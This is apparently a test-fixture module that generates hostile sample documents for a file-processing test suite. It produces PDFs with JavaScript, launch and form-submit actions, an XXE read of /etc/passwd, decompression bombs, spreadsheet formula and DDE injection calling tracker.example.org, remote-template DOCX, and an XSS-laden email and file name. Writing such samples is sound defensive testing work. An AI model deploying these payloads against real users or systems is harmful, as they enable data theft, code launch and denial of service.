"""Writes files whose content wants to act: to run, to fetch, to blow up, to pose as something else. All invented."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf

from tests.bad_input import docx_of, ole_of, pdf_of, plain_pdf, xlsx_of

HTTP = "http://tracker.example.org/"
MARKUP = "<img src=x onerror=alert(1)>"
W = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def write_acting_inputs(folder: Path) -> None:
    """All of them lie in `folder`."""
    for name, data in {
        "owner-password.pdf": owner_password(),
        "flate-of-flate.pdf": flate_of_flate(),
        "three-million-operators.pdf": many_operators(),
        "actions.pdf": actions(),
        "xfa.pdf": xfa(),
        "hundred-thousand-pages.tiff": many_pages(100_000),
        "fifty-thousand-frames.gif": many_frames(50_000),
        "formulas.xlsx": formulas(),
        "formulas.csv": b"name,value\r\n=WEBSERVICE(\"http://tracker.example.org/\"),1\r\n=cmd|'/c calc'!A1,2\r\n",
        "remote-picture.docx": remote_docx(),
        "linked-section.odt": linked_odt(),
        "macros.doc": ole_of({"WordDocument": bytes(512), "1Table": bytes(64), "Macros/VBA/dir": b"\x01" + bytes(40)}),
        "beacon.eml": beacon_mail(),
        f"{MARKUP.replace('/', '')}.txt": f"a note with {MARKUP} in it".encode(),
        "markup.xlsx": xlsx_of(_sheet(MARKUP.replace("<", "&lt;").encode())),
    }.items():
        (folder / name).write_bytes(data)


def owner_password() -> bytes:
    """It opens without a password; only printing and the like are forbidden."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain_pdf())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=""))
    return out.getvalue()


def _stream(data: bytes, head: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(data), data)


def flate_of_flate() -> bytes:
    """256 MB of blanks in a content stream, packed twice."""
    packer = zlib.compressobj(9)
    once = b"".join([*(packer.compress(b" " * (1 << 20)) for _ in range(256)), packer.flush()])
    body = _stream(zlib.compress(once), b"/Filter [/FlateDecode /FlateDecode]")
    return pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES, _PAGE, body)


def many_operators() -> bytes:
    """A page that draws three million lines."""
    body = zlib.compress(b"1 1 m 2 2 l S\n" * 1_000_000, 6)
    return pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES, _PAGE, _stream(body, b"/Filter /FlateDecode"))


def actions() -> bytes:
    """JavaScript when it is opened, and links that launch a program, go to another file and submit a form."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain_pdf())) as pdf:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        acts = (
            pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"),
            pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="//tracker.example.org/share/x.pdf", D=[0, pikepdf.Name.Fit]),
            pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=f"{HTTP}form"),
        )
        pdf.pages[0].Annots = pikepdf.Array(
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=act)
            for act in acts
        )
        pdf.save(out)
    return out.getvalue()


def xfa() -> bytes:
    """A form in XML that wants to draw a file of this machine in."""
    out = io.BytesIO()
    form = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&f;</xdp:xdp>'
    with pikepdf.open(io.BytesIO(plain_pdf())) as pdf:
        pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Stream(pdf, form), Fields=[])
        pdf.save(out)
    return out.getvalue()


def many_pages(count: int) -> bytes:
    """A TIFF of so many pages, which all show the same eight pixels."""
    tags = (
        (256, 3, 8),
        (257, 3, 1),
        (258, 3, 1),
        (259, 3, 1),
        (262, 3, 1),
        (273, 4, 8),
        (277, 3, 1),
        (278, 3, 1),
        (279, 4, 1),
    )
    size = 2 + 12 * len(tags) + 4
    out = bytearray(struct.pack("<2sHI", b"II", 42, 10) + b"\xff\0")
    for number in range(count):
        out += struct.pack("<H", len(tags))
        for tag, kind, value in tags:
            out += struct.pack("<HHI", tag, kind, 1) + struct.pack("<I", value)
        out += struct.pack("<I", 10 + size * (number + 1) if number + 1 < count else 0)
    return bytes(out)


def many_frames(count: int) -> bytes:
    """A GIF that moves through so many frames of one pixel."""
    frame = b"\x21\xf9\x04\x00\x01\x00\x00\x00" + b"\x2c\0\0\0\0\x01\0\x01\0\0" + b"\x02\x02\x44\x01\0"
    return b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0" + frame * count + b"\x3b"


def _sheet(text: bytes, formula: bytes = b"") -> bytes:
    cells = b'<c r="A1" t="inlineStr"><is><t>%s</t></is></c>' % text
    if formula:
        cells += b'<c r="B1"><f>%s</f><v>5</v></c>' % formula
    return b'<worksheet xmlns="%s"><sheetData><row r="1">%s</row></sheetData></worksheet>' % (S, cells)


def formulas() -> bytes:
    return xlsx_of(_sheet(b"seen", b'WEBSERVICE("http://tracker.example.org/")'))


def remote_docx() -> bytes:
    """A document whose template and picture lie on a server."""
    body = (
        b'<w:document xmlns:w="%s"><w:body><w:p><w:r><w:t>words of the letter</w:t></w:r></w:p></w:body></w:document>'
        % W
    )
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    links = "".join(
        f'<Relationship Id="r{number}" Type="{kinds}{kind}" Target="{HTTP}{kind}" TargetMode="External"/>'
        for number, kind in enumerate(("image", "attachedTemplate"))
    )
    relations = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>'
    )
    out = io.BytesIO(docx_of(body))
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("word/_rels/document.xml.rels", relations)
    return out.getvalue()


def linked_odt() -> bytes:
    """A text with a section that is to be filled from a file of this machine."""
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
        "<office:body><office:text><text:p>before the section</text:p>"
        '<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/></text:section>'
        "</office:text></office:body></office:document-content>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        package.writestr("content.xml", content)
    return out.getvalue()


def beacon_mail() -> bytes:
    html = f'<p>body of the mail</p><script>alert(1)</script><img src="{HTTP}b.gif"><img src="cid:self"><p>the end</p>'
    return (
        "From: a@example.org\r\nSubject: beacon\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/related; boundary="x"\r\n\r\n'
        f'--x\r\nContent-Type: text/html; charset="utf-8"\r\nContent-ID: <self>\r\n\r\n{html}\r\n--x--\r\n'
    ).encode()
